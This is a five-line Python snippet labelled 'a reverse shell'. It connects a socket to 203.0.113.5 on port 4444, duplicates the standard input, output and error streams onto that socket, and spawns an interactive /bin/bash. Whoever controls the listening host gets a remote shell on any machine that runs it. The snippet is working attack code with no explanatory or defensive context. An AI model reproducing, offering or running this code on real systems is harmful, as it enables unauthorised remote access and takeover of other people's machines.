# a reverse shell
import socket, os, pty
s = socket.socket(); s.connect(("203.0.113.5", 4444))
for f in (0, 1, 2): os.dup2(s.fileno(), f)
pty.spawn("/bin/bash")
